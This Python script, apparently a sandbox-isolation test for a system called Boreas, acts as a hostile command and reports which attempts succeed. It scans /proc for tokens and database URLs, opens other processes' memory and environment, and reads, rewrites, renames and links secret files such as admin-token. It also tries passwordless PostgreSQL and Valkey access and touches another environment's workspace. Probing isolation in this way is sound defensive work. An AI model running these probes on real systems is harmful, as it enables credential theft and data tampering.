"""A malicious command: tries to gain rights, and prints the result of each try as “name: result”.

    attack.py DATA TOKEN OTHER PORT

DATA is the data folder of Boreas, TOKEN its first token in hexadecimal digits, OTHER a folder of another environment,
PORT that of Valkey. A script of its own.
"""

import os
import re
import socket
import struct
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

SECRET = re.compile(rb"postgres://|redis://:|bor_[A-Za-z0-9_-]{20}")


def got(name: str, what: object) -> None:
    print(f"{name}: {what}", flush=True)


def processes() -> Iterator[int]:
    yield from (int(path.name) for path in Path("/proc").glob("[0-9]*"))


def parents() -> Iterator[int]:
    number = os.getppid()
    while number > 1:
        yield number
        stat = Path(f"/proc/{number}/stat").read_text(errors="replace")
        number = int(stat.rpartition(")")[2].split()[1])


def secrets(token: bytes) -> None:
    """Look for secrets in what /proc shows of all processes."""
    for number in processes():
        for name in ("environ", "cmdline", "auxv"):
            with suppress(OSError):
                text = Path(f"/proc/{number}/{name}").read_bytes()
                shown = token in text or (name != "cmdline" and SECRET.search(text))
                if shown and number != os.getpid() and b"attack.py" not in text:
                    got(name, number)


def memory() -> None:
    """Open the memory, the files and the variables of the worker and of all that stands above it."""
    for number in (*parents(), *boreas()):
        for name, way in (("mem", "r+b"), ("environ", "rb"), ("maps", "rb")):
            with suppress(OSError), Path(f"/proc/{number}/{name}").open(way) as file:
                if name == "mem" or file.read(1):
                    got(name, Path(f"/proc/{number}/cmdline").read_bytes().replace(b"\0", b" ")[-60:])
        with suppress(OSError):
            got("files", [path.readlink() for path in Path(f"/proc/{number}/fd").iterdir()])


def boreas() -> list[int]:
    """Return the processes of Boreas, by their command lines."""
    marks = (
        b"app.cli",
        b"guard_process.py",
        b"spawner_process.py",
        b"process_wrapper.py",
        b"valkey-server",
        b"postgres",
    )
    found = []
    for number in processes():
        with suppress(OSError):
            line = Path(f"/proc/{number}/cmdline").read_bytes()
            if any(mark in line for mark in marks) and b"attack.py" not in line:
                found.append(number)
    return found


def files(data: Path) -> None:
    """Read, change, make and remove in the data folder."""
    known = ("admin-token", "secrets/owner-url", "secrets/worker-database-url", "secrets/redis-url", "secrets/postgres")
    more = ("valkey/valkey.conf", "postgres/PG_VERSION", "postgres/pg_hba.conf", "logs/api.log", "command-users")
    for name in (*known, *more):
        with suppress(OSError):
            got("read", (name, (data / name).read_bytes()[:8]))
        with suppress(OSError), (data / name).open("ab"):
            got("write", name)
    for folder in (data, data / "postgres", data / "secrets", data / "workspaces"):
        with suppress(OSError):
            (folder / "mine").write_text("x")
            got("make", folder)
    with suppress(OSError):
        (data / "admin-token").rename(data / "mine-too")
        got("move", "admin-token")
    with suppress(OSError):
        os.link(data / "admin-token", "mine")
        got("link", Path("mine").read_text())
    with suppress(OSError):
        Path("way").symlink_to(data / "admin-token")
        got("symlink", Path("way").read_text())


def database(folder: Path) -> None:
    """Come to PostgreSQL without a password."""
    for role in (b"postgres", b"boreas_api", b"boreas_worker"):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            client.connect(str(folder / ".s.PGSQL.5432"))
            words = b"user\0" + role + b"\0database\0postgres\0\0"
            client.sendall(struct.pack("!ii", len(words) + 8, 196608) + words)
            answer = client.recv(9)
            if answer[:1] == b"R" and answer[5:9] == bytes(4):
                got("database", role)


def broker(port: int) -> None:
    """Come to Valkey without a password."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as client:
        client.sendall(b"PING\r\n")
        if client.recv(5).startswith(b"+PONG"):
            got("broker", port)


def signals() -> None:
    """Ask whether Boreas could be ended."""
    for number in boreas():
        with suppress(OSError):
            os.kill(number, 0)
            got("signal", number)


def others(folder: Path) -> None:
    """Read and write in a workspace of another environment."""
    with suppress(OSError):
        got("other", (folder / "kept").read_text())
    with suppress(OSError):
        (folder / "mine").write_text("x")
        got("other-write", folder)


if __name__ == "__main__":
    data_, other_ = Path(sys.argv[1]), Path(sys.argv[3])
    token_ = bytes.fromhex(sys.argv[2])
    secrets(token_)
    memory()
    files(data_)
    database(data_ / "postgres")
    broker(int(sys.argv[4]))
    signals()
    others(other_)
    print("tried", flush=True)
